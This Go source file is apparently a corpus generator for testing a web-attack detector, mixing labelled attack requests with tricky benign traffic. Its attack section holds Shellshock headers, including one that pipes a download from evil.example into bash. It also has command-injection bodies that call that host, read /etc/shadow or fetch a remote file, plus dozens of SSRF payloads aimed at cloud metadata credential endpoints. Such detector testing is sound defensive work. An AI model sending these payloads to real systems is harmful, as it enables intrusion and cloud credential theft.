		{"user-agent", "() { :;}; /bin/bash -c \"curl http://evil.example/s | bash\""},
		{"cookie", "() { :; }; ping -c 3 10.0.0.1"},
		{"user-agent", "(){ :; }; echo; echo; /bin/bash -c 'whoami'"},
	}
	for i, s := range shellshock {
		r := genReq{path: "/cgi-bin/status", header: map[string]string{s.h: s.v}}
		if s.h == "cookie" {
			r = genReq{path: "/cgi-bin/status", cookie: s.v, shapes: []string{shapeREST, shapeALB}}
		}
		g.add("cmd", injectionLabel, "cmd: shellshock in "+s.h, r, attackResponse(i))
	}
	bodies := []string{
		`{"hostname":"8.8.8.8; curl http://evil.example/$(id -u)"}`,
		`{"ping":{"target":"10.0.0.1 && cat /etc/shadow"}}`,
		`{"convert":{"input":"a.png","output":"b.png; wget http://evil.example/x -O /tmp/x"}}`,
	}
	for i, b := range bodies {
		g.add("cmd", injectionLabel, "cmd: nested JSON body field", genReq{method: "POST", path: "/v1/tools", ctype: "application/json", body: b}, attackResponse(i))
	}
}

func (g *corpusGen) ssrf() {
	payloads := []string{
		"http://169.254.169.254/latest/meta-data/",
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"http://169.254.169.254/latest/user-data",
		"http://169.254.169.254/latest/api/token",
		"http://[fd00:ec2::254]/latest/meta-data/",
		"http://2852039166/latest/meta-data/",
		"http://0xa9fea9fe/latest/meta-data/",
		"http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/",
		"http://0251.0376.0251.0376/latest/meta-data/",
		"http://0251.254.169.254/",
		"http://169.254.43518/",
		"http://169.16689662/",
		"http://[::ffff:169.254.169.254]/",
		"http://[::ffff:a9fe:a9fe]/latest/",
		"http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
		"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
		"http://metadata/computeMetadata/v1/",
		"http://metadata.google.internal./computeMetadata/v1/",
		"http://instance-data/latest/meta-data/",
		"http://instance-data.ec2.internal/latest/",
		"http://169.254.170.2/v2/credentials/5d2a6b1c-8e3f-4a7b-9c0d-1e2f3a4b5c6d",
		"http://169.254.169.254/metadata/instance?api-version=2021-02-01",
		"http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
		"http://100.100.100.200/latest/meta-data/",
		"http://169.254.169.254/opc/v2/instance/",
		"http://user@169.254.169.254/",
		"http://expected.example.com@169.254.169.254/",
		"http://169.254.169.254.nip.io/latest/meta-data/",
		"http://169.254.169.254:80/latest/meta-data/",
		"https://169.254.169.254/",
		"//169.254.169.254/latest",
		"169.254.169.254/latest/meta-data",
		"http://169\u3002254\u3002169\u3002254/",
		"gopher://169.254.169.254:80/_GET%20/latest/meta-data/",
		"dict://169.254.169.254:80/",
		"http://169.254.169.254%23@example.com/",
		"http://[::ffff:a9fe:aa02]/v2/credentials/",
		"http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/",
		"http://0xa9.0xfea9fe/",
		"http://metadata.goog/computeMetadata/v1/project/project-id",
		"http://169.254.169.254/latest/dynamic/instance-identity/document",
		"http://a9fea9fe.nip.io/latest/",
		// Written after the signatures.
		"http://169.254.169.254/latest/meta-data/hostname",
		"http://[::ffff:169.254.169.254]:80/",
		"http://0x00a9.0x00fe.0x00a9.0x00fe/",
		"http://0251.00376.000251.0000376/",
		"http://169.254.169.254.xip.io/",
		"http://www.169.254.169.254.nip.io/",
		"http://[::169.254.169.254]/",
		"http://metadata.google.internal/computeMetadata/v1beta1/",
		"http://169.254.169.254/computeMetadata/v1/",
		"http://0/latest/meta-data/",
	}
	g.attacks("ssrf", payloads, []string{"url", "callback", "webhook", "image_url", "feed", "redirect_uri"}, []string{"x-forwarded-host", "referer", "x-original-url"}, func(i int, p string) (genReq, string, bool) {
		switch i % 8 {
		case 5:
			return genReq{path: "/v1/proxy/" + p}, "in the path of a proxy route", true
		case 7:
			// A header: the host the function may build a URL from.
			if strings.Contains(p, "//") {
				return genReq{path: "/v1/preview", header: map[string]string{"referer": p}}, "referer header", true
			}
		}
		return genReq{}, "", false
	})
	more := []struct{ note, query, body string }{
		{note: "double-encoded URL", query: "url=http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F"},
		{note: "webhook registration", body: `{"webhook_url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/lambda-role","events":["order.created"]}`},
		{note: "image import", body: `{"images":[{"src":"https://cdn.example.com/a.jpg"},{"src":"http://[fd00:ec2::254]/latest/meta-data/"}]}`},
		{note: "form field", body: "source=url&url=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data"},
	}
	for i, m := range more {
		r := genReq{path: "/v1/fetch", query: m.query}
		if strings.HasPrefix(m.body, "{") {
			r = genReq{method: "POST", path: "/v1/imports", ctype: "application/json", body: m.body}
		} else if m.body != "" {
			r = genReq{method: "POST", path: "/v1/imports", ctype: "application/x-www-form-urlencoded", body: m.body}
		}
		g.add("ssrf", injectionLabel, "ssrf: "+m.note, r, attackResponse(i))
	}
}

// ---- benign traffic ----

// searches are what people type into a search box: quotes, apostrophes,
// SQL words, markup words, symbols.
var searches = []string{
	"O'Reilly", "O'Reilly books on SQL", "Levi's 501 jeans", `"exact phrase"`, `"new york" OR "boston"`,
	"rock 'n' roll", "Select Comfort bed", "DROP earrings gold", "drop leaf table oak", "union jack flag",
	"credit union near me", "European Union select committee report", "select committee on science", "script writing course",
	"JavaScript: The Good Parts", "C# vs Java", `5' 11" height chart`, "salt & pepper grinder", "Tom & Jerry dvd",
	"cats | dogs", "100% cotton t-shirt", "50% off sale", "1/2 inch drill bit", "size 10 or 12", "size 8-10",
	"don't stop me now", "it's 5 o'clock somewhere", `title:"war and peace" AND author:tolstoy`, "price>10 and rating>=4",
	"union station chicago", "union select 2 pack", "how to drop a table in sql", "insert into excel cell", "sleep mask silk",
	"delete account", "where is my order", "a<b", "i <3 ny mug", "Vec<String> rust", "<br> tag", "x < y", "email: john@example.com",
	"john.o'brien@example.com", "what does %20 mean", "https://example.com/page?x=1", "C:\\Users\\bob\\Documents", "../ meaning in linux",
	"etc/passwd file format", "how to edit /etc/passwd safely", "photo metadata editor", "metadata.json schema", "instance data science",
	"169.254 link local address", "0xa9 hex to decimal", "2852039166", "cat toys", "cat & mouse game", "id card holder",
	"Wallet; ID card holder", "toys for dogs | cat toys", "ping pong table", "sleep 8 hours", "echo dot", "bash party ideas",
	"python 3 tutorial", "curl hair products", "nc state university", "Raleigh | NC", "find my phone", "head & shoulders shampoo",
	"more or less", "less is more", "set of 4 chairs", "type c charger", "host a party", "net worth", "time zone converter",
	"who am i", "dir en grey", "tail light", "touch screen gloves", "sh*t happens mug", "$(cash) money", "wget vs curl",
	"What's new?", "l'Oréal paris", "Ça va", "naïve café", "日本語のテキスト", "¿Dónde está?", "emoji 🎉 party",
	"'quoted'", "\"double quoted\"", "it''s", "1 = 1 math", "a=b", "x==y", "true or false quiz", "yes or no",
	"or", "and", "union", "select", "from", "script", "alert", "onload", "onerror handling in javascript",
	"on error resume next", "<script> tag explained", "javascript void 0", "data:text/plain", "file:// protocol",
	"drop table -- comment syntax", "-- dashes", "#hashtag", "tag #1", "admin' panel", "it's 10 o'clock",
	"100 or more", "5' or 6' ladder", "'90s or '80s hits", "1' 2\" pipe fitting", "iPhone 15 || Pixel 8",
	"2 or 3 bedrooms", "AC/DC", "R&D", "Q&A", "M&M's", "AT&T", "Ben & Jerry's", "pipe | separated values", "50/50",
	"24/7 support", "~/.bashrc", "$HOME", "${var} in bash", "%PATH%", "node -v", "npm i -g yarn", "rm -rf node_modules",
	"sudo apt-get update && sudo apt-get upgrade", "cat /etc/os-release", "ping 8.8.8.8", ";", "|", "&&", "--",
	"#1 bestseller", "select * from", "SELECT name FROM users", "1 union 2", "or 1=1 meaning", "what is xss",
	"<img> alt text", "onclick vs addEventListener", "../../ relative path", "..", "...", "wait... what?!",
	"file.tar.gz", "C:\\Program Files\\App", "http://localhost:8080", "127.0.0.1", "::1", "fe80::1",
	"metadata google", "aws instance metadata service", "sleep(1000) js", "benchmark results 2024",
	"waitfor delay syntax", "exec summary template", "declare independence", "insert coin", "update set list",
	"Mozilla/5.0", "() => {}", "function() {}", "{{ handlebars }}", "[[wiki link]]", "@mention", "user@",
	"e=mc^2", "2+2=4", "x>=1", "1<2", "a -- b", "it's -- great", "rock'n'roll", "'", "''", "\"",
}

// paths are resource paths of a typical API.
var paths = []string{
	"/v1/products/select-comfort-sleep-number-bed", "/v1/products/drop-earrings-14k", "/v1/users/me",
	"/v1/orders/7f3c2a9e-1b4d-4c8e-9a2f-3d5e6f7a8b9c", "/v1/orders/1042", "/v1/catalog/union-made/shirts",
	"/v1/blog/2024/06/why-we-dropped-our-sql-database", "/v1/files/reports/2024-Q2.pdf", "/v1/users/o%27brien",
	"/v1/search/cats%20%26%20dogs", "/v1/tags/c%23", "/v1/products/100%25-cotton-tee", "/health", "/",
	"/v1/scripts/onboarding", "/v1/docs/etc/config-reference", "/v2/items/SKU-10442-BLK", "/v1/carts/c_9f86d081884c",
	"/v1/invoices/INV-2024-000123.pdf", "/v1/feeds/rss.xml", "/.well-known/openid-configuration", "/favicon.ico",
	"/v1/users/1042/avatar@2x.png", "/v1/locations/51.5074,-0.1278", "/v1/products/a%2Fb",
}

var benignBodies = []struct{ ctype, body string }{
	{"application/json", `{"items":[{"sku":"SKU-10442-BLK","qty":2},{"sku":"SKU-20011-WHT","qty":1}],"coupon":"SPRING-2024","note":"Please leave at the door; ring twice."}`},
	{"application/json", `{"name":"Jane O'Brien","email":"jane.obrien@example.com","phone":"+1 (415) 555-2671","address":{"line1":"Flat 2; 10 Downing St","city":"London","postcode":"SW1A 2AA"}}`},
	{"application/json", `{"bio":"I select the best union-made goods and drop prices every Friday. My script: be kind.","website":"https://jane.example.com/?utm_source=profile&utm_medium=bio"}`},
	{"application/json", `{"comment":"Great article! I use ` + "`SELECT * FROM orders WHERE id = ?`" + ` with prepared statements, never string concatenation."}`},
	{"application/json", `{"body":"## Steps\n\n1. Run ` + "`npm install`" + `\n2. ` + "`cd app && npm test`" + `\n3. Compare ` + "`a < b`" + ` and ` + "`Vec<T>`" + `\n\n| id | name |\n|----|------|\n| 1  | x    |\n\nSee [the guide](../docs/guide.md) and [faq](../../faq.md)."}`},
	{"application/json", `{"query":"query Products($q: String!) { products(search: $q, first: 20) { edges { node { id name price } } } }","variables":{"q":"O'Reilly \"exact\""}}`},
	{"application/json", `{"id":"evt_1Nq2Z3L4m5N6o7P8","type":"payment_intent.succeeded","data":{"object":{"id":"pi_3Nq2Z3L4m5N6o7P8q9R0","amount":12990,"currency":"usd","payment_method_details":{"card":{"brand":"visa","last4":"4242","exp_month":12,"exp_year":2027}}}}}`},
	{"application/json", `{"file_name":"avatar.png","content":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==","content_type":"image/png"}`},
	{"application/json", `{"refresh_token":"v1.MjA0OGFhZGYtN2E1Ni00ZDFhLWJmYjQtOTc3OTM5ZjE2NmJl.c2lnbmF0dXJl-x_Y","grant_type":"refresh_token","client_id":"web-app"}`},
	{"application/json", `{"callback_url":"https://hooks.example.com/orders?id=1042&sig=6f1d0b527c2e","redirect_uri":"https://app.example.com/oauth/callback","return_to":"/account/settings"}`},
	{"application/json", `{"html":"<p>Hello <strong>team</strong>,</p><p>See <a href=\"https://docs.example.com/a?b=1&amp;c=2\">the docs</a> and <img src=\"https://cdn.example.com/x.png\" alt=\"diagram\">.</p>"}`},
	{"application/json", `{"snippet":"const sleep = (ms) => new Promise(r => setTimeout(r, ms));\nasync function run() { await sleep(1000); return fetch('/api'); };\nrun();"}`},
	{"application/json", `{"code":"import time\nfor i in range(3):\n    time.sleep(5)\n    print(f'tick {i}')\n"}`},
	{"application/json", `{"sql_tip":"Use UNION ALL instead of UNION when duplicates do not matter, and never SELECT * in production."}`},
	{"application/json", `{"password":"Tr0ub4dor&3","new_password":"correct horse battery staple","confirm":"correct horse battery staple"}`},
	{"application/json", `{"search":{"filters":[{"field":"price","op":">=","value":10},{"field":"brand","op":"in","value":["Levi's","O'Neill"]}],"sort":"price desc"}}`},
	{"application/json", `{"ticket":"I ran curl -X POST https://api.example.com/v1/orders and got a 500; then I tried again with --data '{}' and it worked. Any idea?"}`},
	{"application/json", `{"ticket":"On my Mac: cd ~/project && ls -la shows the file, but the upload says it's missing. Path is /Users/jane/project/report (final).pdf"}`},
	{"application/json", `{"message":"Meet at 5 o'clock; bring snacks | drinks & games. Don't be late!","attachments":[]}`},
	{"application/json", `{"recipe":"Mix 1/2 cup flour & 2 eggs; whisk until smooth. Bake at 180°C (350°F) for 25-30 min."}`},
	{"application/json", `{"feedback":"The 'select all' checkbox doesn't work -- it only selects the first page.","rating":3}`},
	{"application/json", `{"events":[{"ts":1718035200123,"type":"page_view","url":"https://shop.example.com/products/select-comfort-bed?ref=ad&utm_campaign=union"},{"ts":1718035201456,"type":"click","target":"#add-to-cart"}]}`},
	{"application/json", `{"token":"ya29.a0AfB_byC3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0U1v2W3x4Y5z6","expires_in":3599}`},
	{"application/json", `{"csv":"id,name,email\n1,Jane,jane@example.com\n2,\"O'Brien, Pat\",pat@example.com\n"}`},
	{"application/json", `{"description":"Our <b>DROP</b> collection: earrings & pendants. Use code UNION10 at checkout; free shipping over $50!"}`},
	{"application/json", `{"path":"reports/2024/Q2/summary.pdf","overwrite":false}`},
	{"application/json", `{"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s"}`},
	{"application/json", `{"host":"db-replica-2.internal.example.com","port":5432,"sslmode":"require"}`},
	{"application/json", `{"ip":"203.0.113.42","note":"office VPN exit; whitelist please"}`},
	{"application/json", `{"expression":"(price * qty) - discount >= 100 && status == 'paid' || vip == true"}`},
	{"application/json", `{"regex":"^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$","flags":"i"}`},
	{"application/json", `{"template":"Hello {{name}}, your order {{order.id}} ships {{date | format: 'MMM d'}}."}`},
	{"application/json", `{"markdown":"Use the <kbd>Ctrl</kbd> + <kbd>C</kbd> keys. Types like Map<String, List<Integer>> are fine."}`},
	{"application/json", `{"lat":51.5074,"lng":-0.1278,"accuracy":12.5,"timestamp":"2024-06-10T12:00:00.000Z"}`},
	{"application/json", `[{"op":"replace","path":"/name","value":"Select Comfort"},{"op":"add","path":"/tags/-","value":"union-made"}]`},
	{"application/json", `{"username":"bobby","display":"Robert'); Tables","password":"p@$$w0rd!"}`},
	{"application/json", `{"signature":"MEUCIQDx7u3W1c2v5y8z0A9B8C7D6E5F4G3H2I1J0K9L8M7N6O5P4QIgQ1w2e3r4t5y6u7i8o9p0a1s2d3f4g5h6j7k8l9z0x1c2v3b4=","alg":"ES256"}`},
	{"application/json", `{"about":"Sysadmin. I write about /etc/hosts tricks, ~/.ssh/config and the ../ in relative paths."}`},
	{"application/json", `{"command":"backup","args":["--full","--target","s3://backups/db"],"schedule":"0 3 * * *"}`},
	{"application/json", `{"title":"Why \"or 1=1\" shows up in your logs","tags":["security","sql"]}`},

	{"application/x-www-form-urlencoded", "username=jane.doe%40example.com&password=Xk9%23mQ2%24vL%3B%7C&remember=on"},
	{"application/x-www-form-urlencoded", "name=Pat+O%27Brien&email=pat%40example.com&message=Hi%21+I%27d+like+to+return+order+%231042+%E2%80%94+it%27s+the+wrong+size.+Thanks%3B+Pat"},
	{"application/x-www-form-urlencoded", "q=select+comfort&category=beds&min=100&max=2000&sort=price_asc"},
	{"application/x-www-form-urlencoded", "return_url=https%3A%2F%2Fshop.example.com%2Fcheckout%2Fdone%3Forder%3D1042&state=af0ifjsldkj"},
	{"application/x-www-form-urlencoded", "comment=Works+great+%3C3+--+5+stars&rating=5"},
	{"application/x-www-form-urlencoded", "grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"},
	{"text/plain", "Hello, this is a plain text note. It mentions select, union and drop in passing; nothing more."},
	{"text/csv", "sku,name,price\nSKU-1,\"Select Comfort, queen\",1999.00\nSKU-2,DROP earrings,49.90\n"},
	{"application/xml", `<?xml version="1.0"?><order id="1042"><item sku="SKU-1" qty="2"/><note>Leave at door &amp; ring</note></order>`},
	{"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW", "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nQ2 report; final\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.csv\"\r\nContent-Type: text/csv\r\n\r\na,b\n1,2\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"},
	{"application/json", `{"where":{"or":[{"id":1},{"id":2}],"and":[{"status":"active"}]},"limit":10}`},
	{"application/json", `{"$or":[{"qty":{"$lt":20}},{"price":10}]}`},
	{"application/json", `{"query":{"query_string":{"query":"title:(quick OR brown) AND status:active AND author:\"O'Neil\""}}}`},
	{"application/json", `{"review":"I bought the Select Comfort bed after my old one -- a cheap memory-foam thing -- gave out. Delivery was 'on time' (ha!); setup took 2 hours. Firmness 35 or 40 suits me; my partner's side is 60. The app's 'SleepIQ' score is gimmicky, but the union of comfort & support is real. 4/5, would buy again."}`},
	{"application/json", `{"answer":"You can't pass a table name as a parameter. Build the query from an allow-list instead:\n\n` + "```python" + `\nALLOWED = {'orders', 'users'}\nif table not in ALLOWED:\n    raise ValueError(table)\ncur.execute(f'SELECT count(*) FROM {table}')\n` + "```" + `\n\nAnd never paste user input into SQL; use placeholders (%s or ?)."}`},
	{"application/json", `{"post":"Moving day!! Packed 40 boxes; the cat hid in one (of course). Tomorrow: IKEA run & pizza. If anyone has a drill | ladder to lend, DM me :)"}`},
	{"application/json", `{"note":"Call me at 555-0100 ext. 12 -- or e-mail. Gate code is #4521; buzz 'Smith'."}`},
	{"application/json", `{"style":".btn{color:red;background:url(/img/bg.png)} a[href^='http']{text-decoration:none}","script_url":"https://cdn.example.com/widget.js"}`},
	{"application/json", `{"email_html":"<table width=\"100%\" cellpadding=\"0\"><tr><td style=\"font-family:Arial\">Hi {{first_name}},<br>Your order #1042 has shipped &mdash; track it <a href=\"https://track.example.com/1Z999AA10123456784\">here</a>.</td></tr></table>"}`},
	{"application/json", `{"changelog":"- Fixed: search for O'Reilly returned 500\n- Changed: 'select all' now selects every page\n- Removed: legacy /v1/union endpoint"}`},
	{"application/json", `{"config":{"cron":"*/5 * * * *","command":"node scripts/sync.js --since=1h","env":{"NODE_ENV":"production"}}}`},
	{"application/json", `{"translation":{"fr":"L'été est là ; profitez-en !","de":"Größe: 10 oder 12","ja":"「こんにちは」と言った"}}`},
	{"application/octet-stream", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<script>; cat /etc/passwd ../../"},
}

var benignCookies = []string{
	"session=3b2c1a9f8e7d6c5b4a39281706f5e4d3; _ga=GA1.2.1234567890.1700000000; theme=dark",
	"cart=%7B%22items%22%3A%5B%7B%22sku%22%3A%22A-1%22%2C%22qty%22%3A2%7D%5D%7D; consent=%7B%22ads%22%3Afalse%7D",
	"prefs=lang%3Den-US%7Ccurrency%3DUSD; _gid=GA1.2.987654321.1718035200",
	"AWSALB=Xk3m9Lq2Wp8Rt5Yv1Zb6Nc4Md7Fg0Hj; AWSALBCORS=Xk3m9Lq2Wp8Rt5Yv1Zb6Nc4Md7Fg0Hj",
	"token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMDQyIn0.c2lnbmF0dXJl; last_search=O%27Reilly%20%26%20Sons",
}

// benignResponses look like sensitive data and are not: order numbers,
// UUIDs, phone numbers, timestamps, a contact address, masked cards,
// public keys.
func benignResponses() []genResp {
	nonLuhn := []string{}
	for _, prefix := range []string{"411111111111111", "550000000000000", "601100000000000", "353011133330000", "400005665566555", "222300312200322"} {
		for d := '0'; d <= '9'; d++ {
			if c := prefix + string(d); !luhn([]byte(c)) {
				nonLuhn = append(nonLuhn, c)
				break
			}
		}
	}
	nine := []string{}
	for i := range 9 {
		nine = append(nine, fmt.Sprintf(`{"name":"Member %d","email":"member%d@team.example.com"}`, i, i))
	}
	return []genResp{
		{status: 200, body: `{"order":{"id":"7f3c2a9e-1b4d-4c8e-9a2f-3d5e6f7a8b9c","number":"` + nonLuhn[0] + `","placed_at":"2024-06-10T12:00:00Z","total":"129.90","card":{"brand":"visa","last4":"1111","masked":"411111******1111"}},"contact":"support@shop.example.com"}`},
		{status: 200, body: `{"orders":[{"ref":"` + nonLuhn[1] + `"},{"ref":"` + nonLuhn[2] + `"},{"ref":"` + nonLuhn[3] + `"}],"next":"eyJwYWdlIjoyLCJzaXplIjo1MH0"}`},
		{status: 200, body: `{"tracking":["1Z999AA10123456784","9400111899223856928499","781234567890"],"imei":"356938035643809","isbn":"978-0-596-52068-7"}`},
		{status: 200, body: `{"created":1718035200123,"updated_us":1718035200123456,"nanos":1718035200123456789,"phone":"+14155552671","alt_phone":"+44 20 7946 0958","fax":"415-555-0132"}`},
		{status: 200, body: `{"card":"**** **** **** 4242","exp":"12/27","billing_zip":"94107","order_no":"` + nonLuhn[4] + `","customer_since":"2019-03-15"}`},
		{status: 200, body: `{"team":[` + strings.Join(nine, ",") + `]}`},
		{status: 200, body: `{"jwks":{"keys":[{"kty":"RSA","kid":"2024-06","use":"sig","n":"0vx7agoebGcQSuuPiLJXZptN9nndrQmbXEps2aiAFbWhM78LhWx4cbbfAAtVT86zwu1RK7aPFFxuhDR1L6tSoc_BJECPebWKRXjBZCiFV4n3oknjhMstn64tZ_2W-5JsGY4Hc5n9yBXArwl93lqt7_RN5w6Cf0h4QyQ5v-65YGjQR0_FDW2QvzqY368QQMicAtaSqzs8KJZgnYb9c7d0zgdAZHzu6qMQvRL5hajrn1n91CbOpbISD08qNLyrdkt-bFTWhAI4vMQFh6WeZu0fM4lFd2NcRwr3XPksINHaQ-G_xBniIqbw0Ls1jF44-csFCur-kEgU8awapJzKnqDKgw","e":"AQAB"}]}}`},
		{status: 200, ctype: "application/x-pem-file", body: "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n-----END PUBLIC KEY-----\n-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\n-----END CERTIFICATE-----\n"},
		{status: 200, body: `{"upload":{"id":"upl_01HZX3K4M5N6P7Q8R9S0T1V2W3","sha1":"3f786850e387550fdab836ed7e6dc881de23001b","etag":"\"9b2cf535f27731c974343645a3985328\"","thumbnail":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}}`},
		{status: 200, body: `{"api_key_prefix":"AKIA****","secret":"3f786850e387550fdab836ed7e6dc881de23001b","webhook_secret":"whsec_5WbX5kEWLlfzsGNjH64I8lOOqUB6e8FH","token":"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}`},
		{status: 200, body: `{"accounts":[{"iban_masked":"DE89 **** **** **** **30 00"},{"bic":"COBADEFFXXX"}],"ref":"DE89370400440532013001"}`},
		{status: 200, body: `{"dates":["2024-01-15","2024-02-29"],"phones":["555-123-4567","555-12-3456","(415) 555-2671"],"zip":["94107-1234"],"ids":["000-12-3456","666-12-3456","912-34-5678"]}`},
		{status: 200, body: `{"amount":4111111111111111.25,"ratio":0.4111111111111111,"version":"4.1111111111111111"}`},
		{status: 200, ctype: "text/html; charset=utf-8", body: `<!doctype html><html><head><title>Contact</title></head><body><p>Write to <a href="mailto:hello@example.com">hello@example.com</a> or call +1 415 555 2671.</p><img src="/img/logo@2x.png"></body></html>`},
		{status: 201, body: `{"id":"41111111-1111-4111-8111-111111111111","status":"created","request_id":"c0ffee00-0000-4000-8000-000000000000"}`},
		{status: 200, body: `{"items":[{"ean":"4006381333931"},{"ean":"4012345678901"},{"ean":"4311501620021"}],"gtin14":"10614141000415"}`},
		{status: 200, body: `{"data":"eyJ1c2VyIjoiamFuZSIsInJvbGUiOiJhZG1pbiJ9","sig":"eyJhbGciOiJIUzI1NiJ9"}`},
		{status: 200, body: `{"results":[{"title":"Why \"or 1=1\" shows up in your logs","snippet":"... ' OR '1'='1 is the classic ..."}],"total":1}`},
		{status: 304, body: ""},
		{status: 200, ctype: "text/csv", body: "order,placed,total\n1042,2024-06-10,129.90\n1043,2024-06-11,49.00\n"},
		{status: 200, body: `{"key_id":"AKIA-ROTATED-2024","note":"keys are stored in Secrets Manager"}`},
		{status: 200, body: `{"message":"ok"}`, b64: true},
		{status: 200, body: `{"ids":[` + randomIDs() + `]}`},
		{status: 200, body: `{"fb_ids":["100012345678901","100098765432109"],"snowflakes":["1789012345678901234","1234567890123456789"],"apple_tx":"2000000123456789","shopify_order":5123456789012,"amazon_order":"112-1234567-1234567"}`},
	}
}

// randomIDs are 60 16-digit numeric identifiers of a system that draws
// them at random: about 3 in 100 such numbers have a card network's
// prefix and pass the Luhn check.
func randomIDs() string {
	var ids []string
	x := uint64(0x9e3779b97f4a7c15)
	for range 60 {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		ids = append(ids, fmt.Sprintf(`"%d"`, 1e15+x%9e15))
	}
	return strings.Join(ids, ",")
}

func (g *corpusGen) benign() {
	resps := benignResponses()
	resp := func(i int) *genResp { r := resps[i%len(resps)]; return &r }
	i := 0
	next := func() int { i++; return i - 1 }
	for k, q := range searches {
		n := next()
		enc := qesc(q)
		if k%3 == 1 {
			enc = strings.ReplaceAll(url.PathEscape(q), "&", "%26")
		}
		r := genReq{path: "/v1/search", query: "q=" + enc + "&page=" + fmt.Sprint(k%5+1)}
		if k%4 == 0 {
			r.cookie = benignCookies[k%len(benignCookies)]
		}
		g.add("benign", nil, "benign: search box", r, resp(n))
	}
	for k, p := range paths {
		n := next()
		g.add("benign", nil, "benign: resource path", genReq{path: p, query: []string{"", "expand=items%2Ccustomer", "fields=id,name,price", "include=author&lang=en-GB"}[k%4]}, resp(n))
	}
	// Hard cases a signature detector cannot tell from attacks (they are
	// reported; see signatures.md, "False positives"): an API that takes
	// SQL, a security post that quotes a payload.
	for k, b := range []string{
		`{"sql":"SELECT region, SUM(total) FROM sales GROUP BY region UNION ALL SELECT 'total', SUM(total) FROM sales","engine":"athena"}`,
		`{"comment":"Classic example: typing ' OR '1'='1 into the login form bypassed the check. Use bound parameters!"}`,
	} {
		n := next()
		g.add("benign", nil, "benign, hard: request body that quotes SQL", genReq{method: "POST", path: "/v1/queries", ctype: "application/json", body: b}, resp(n+k))
	}
	for k, b := range benignBodies {
		for rep := range 3 {
			n := next()
			r := genReq{method: []string{"POST", "PUT", "PATCH"}[rep], path: []string{"/v1/orders", "/v1/profile", "/v1/comments", "/v1/tickets", "/v1/webhooks"}[k%5], ctype: b.ctype, body: b.body, b64: rep == 1 || b.ctype == "application/octet-stream"}
			if rep == 2 {
				r.cookie = benignCookies[(k+rep)%len(benignCookies)]
			}
			g.add("benign", nil, "benign: request body "+b.ctype, r, resp(n))
		}
	}
	params := []string{
		"redirect=https%3A%2F%2Fexample.com%2Fcallback%3Fa%3D1%26b%3D2",
		"next=%2Faccount%2Fsettings%3Ftab%3Dsecurity",
		"return_to=https://app.example.com/orders/1042#details",
		"image_url=https%3A%2F%2Fcdn.example.com%2Fimg%2Fp%2F10442%402x.png",
		"url=https://www.example.org/articles/why-union-select-matters",
		"callback=https%3A%2F%2Fhooks.slack.com%2Fservices%2FT000%2FB000%2FXXXX",
		"feed=https://news.example.com/rss?category=tech&lang=en",
		"state=eyJyZXR1cm5UbyI6Ii9kYXNoYm9hcmQifQ&code=4%2F0AeaYSHD_x-Y",
		"id_token=eyJhbGciOiJSUzI1NiIsImtpZCI6IjIwMjQifQ.eyJzdWIiOiIxMDQyIiwiZW1haWwiOiJqYW5lQGV4YW1wbGUuY29tIn0.c2lnbmF0dXJlLWJ5dGVz",
		"blob=aGVsbG8gd29ybGQ%3D&sig=abc%2Bdef%2Fghi%3D%3D",
		"email=john.o%27brien%2Btag%40example.com",
		"phone=%2B1+415+555+2671",
		"filter=status+eq+%27active%27+or+status+eq+%27pending%27",
		"%24filter=Price+gt+20+and+Price+lt+30&%24orderby=Name",
		"sort=-created_at,name&fields[articles]=title,body",
		"q=cats&tags[]=cute&tags[]=funny",
		"ts=1718035200123&nonce=6f1d0b52-7c2e-4c1a-9a54-0d6b2f8a3e71",
		"host=db-replica-2.internal.example.com&port=5432",
		"ip=203.0.113.42",
		"path=reports%2F2024%2FQ2%2Fsummary.pdf",
		"file=invoice-1042.pdf",
		"template=welcome-email",
		"lang=fr-CA&currency=CAD",
		"token=" + strings.Repeat("Zm9vYmFy", 12),
		"utm_source=newsletter&utm_medium=email&utm_campaign=summer%20sale%20%7C%20union%20made",
		"debug=false&trace=0",
		"range=0-1023",
		"expr=a%3C%3Db",
		"shell=zsh",
		"cmd=list&page=2",
		"u=http%3A%2F%2Flocalhost%3A3000%2Fcallback",
		"target=https%3A%2F%2F10.0.0.5%3A8443%2Fhealth",
		"src=https://s3.eu-west-1.amazonaws.com/bucket/key%20with%20spaces.png",
		"link=ftp://ftp.example.com/pub/file.tar.gz",
		"ip=169.254.10.20",
		"ref=2852039166",
	}
	for _, p := range params {
		n := next()
